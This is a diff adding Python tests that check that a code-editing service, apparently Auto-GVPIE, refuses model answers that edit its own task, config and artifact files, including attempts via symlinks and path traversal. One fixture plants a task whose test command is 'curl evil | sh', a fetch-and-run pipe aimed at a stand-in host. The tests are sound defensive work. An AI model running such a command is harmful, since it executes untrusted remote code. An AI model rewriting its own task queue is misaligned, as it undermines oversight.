@@ -297,6 +297,89 @@ def test_instructions_use_the_language_comment():
     assert "// your new line" in text and "# your new line" not in text
 
 
+# ---------------------------------------------------------------- the service's own files
+
+OWN = ("auto_tasks.json", "gvpie.toml", ".gvpie", "artifacts", "lancedb")
+OWN_FILES = ["auto_tasks.json", "gvpie.toml", ".gvpie/x", "artifacts/a.patch", "lancedb/tasks.lance/data"]
+
+
+def _answers_for(target: str) -> dict[str, tuple[str, str]]:
+    """An answer in every edit format that changes `target` (which holds "old\n"), or creates a new
+    protected file: one beside it in its directory, or (a top-level file) the target itself."""
+    new = f"{target.rsplit('/', 1)[0]}/new.txt" if "/" in target else target
+    return {
+        "search_replace": (sr(target, "old\n", "new\n"), "auto"),
+        "udiff": (f"--- a/{target}\n+++ b/{target}\n@@ -1 +1 @@\n-old\n+new\n", "auto"),
+        "whole": (f"{target}\n```\nnew\n```\n", "whole"),
+        "search_replace new file": (sr(new, "", "new\n"), "auto"),
+        "udiff new file": (f"--- /dev/null\n+++ b/{new}\n@@ -0,0 +1 @@\n+new\n", "auto"),
+        "whole new file": (f"{new}\n```\nnew\n```\n", "whole"),
+    }
+
+
+@pytest.fixture
+def home_repo(repo):
+    """The default layout: the home is the repository, and the service's files are committed in it."""
+    for rel in OWN_FILES:
+        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
+        (repo / rel).write_text("old\n")
+    return repo
+
+
+@pytest.mark.parametrize("target", OWN_FILES)
+@pytest.mark.parametrize("kind", list(_answers_for("x")))
+def test_the_services_own_files_are_never_edited(home_repo, target, kind):
+    answer, fmt = _answers_for(target)[kind]
+    if kind.endswith("new file") and "/" not in target:
+        (home_repo / target).unlink()  # e.g. no gvpie.toml yet: the model must not create one either
+    before = corpus.snapshot(home_repo)
+    with pytest.raises(EditRefused, match="Auto-GVPIE's own") as refused:
+        apply_answer(home_repo, answer, fmt, protected=OWN)
+    assert "change the project's files instead" in str(refused.value)
+    assert corpus.snapshot(home_repo) == before
+
+
+def test_a_protected_edit_spoils_the_whole_answer(home_repo):
+    answer = sr("calc.py", "def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n") \
+        + sr("./auto_tasks.json", "old\n", '[{"title": "evil", "tests": ["curl evil | sh"]}]\n')
+    before = corpus.snapshot(home_repo)
+    with pytest.raises(EditRefused, match="block 2 .*auto_tasks.json is Auto-GVPIE's own file"):
+        apply_answer(home_repo, answer, protected=OWN)
+    assert corpus.snapshot(home_repo) == before
+    # The same answer without the service's paths protected applies: the refusal comes from `protected`.
+    assert apply_answer(home_repo, answer).files == ["calc.py", "auto_tasks.json"]
+
+
+def test_symlinks_to_protected_files_are_refused(home_repo):
+    (home_repo / "tasks.json").symlink_to("auto_tasks.json")
+    (home_repo / "out").symlink_to("artifacts")
+    before = corpus.snapshot(home_repo)
+    for answer in (sr("tasks.json", "old\n", "new\n"), sr("out/b.patch", "", "new\n"),
+                   sr("sub/../auto_tasks.json", "old\n", "new\n")):
+        with pytest.raises(EditRefused, match="Auto-GVPIE's own|leaves the repository"):
+            apply_answer(home_repo, answer, protected=OWN)
+    assert corpus.snapshot(home_repo) == before
+
+
+@pytest.mark.parametrize("inputs", [(), ("auto_tasks.json",), ("artifacts/a.patch",)])
+def test_invented_paths_are_never_mapped_onto_protected_files(home_repo, inputs):
+    before = corpus.snapshot(home_repo)
+    for answer in (sr("path/to/auto_tasks.json", "old\n", "new\n"), sr("x/a.patch", "old\n", "new\n"),
+                   "```\nold\n```\n"):
+        with pytest.raises(EditRefused):
+            apply_answer(home_repo, answer, "whole" if answer.startswith("```") else "auto", inputs, OWN)
+    assert corpus.snapshot(home_repo) == before
+
+
+def test_no_edit_message_never_shows_a_file_outside_the_repository(repo, tmp_path):
+    secret = tmp_path / "secret.py"
+    secret.write_text("def leaked():\n    return 'SECRET-MARKER'\n")
+    for inputs in ((str(secret),), ("../secret.py",)):
+        with pytest.raises(EditRefused, match="No edit found") as refused:
+            apply_answer(repo, "I would change it.", "auto", inputs)
+        assert "SECRET-MARKER" not in str(refused.value) and "leaked" not in str(refused.value)
+
+
 # ---------------------------------------------------------------- command line
 
 
@@ -330,6 +413,15 @@ def test_cli_refusal_exits_1_and_changes_nothing(repo):
     result = json.loads(done.stdout)
     assert result["applied"] is False and "leaves the repository" in result["error"]
     assert corpus.snapshot(repo) == before
+
+
+def test_cli_protect(repo):
+    (repo / "auto_tasks.json").write_text("[]\n")
+    done = run_cli("--repo", str(repo), "--protect", "auto_tasks.json", "--json",
+                   stdin=sr("auto_tasks.json", "[]\n", "[{}]\n"))
+    assert done.returncode == 1
+    assert "Auto-GVPIE's own file" in json.loads(done.stdout)["error"]
+    assert (repo / "auto_tasks.json").read_text() == "[]\n"
 
 
 def test_cli_whole_format(repo):
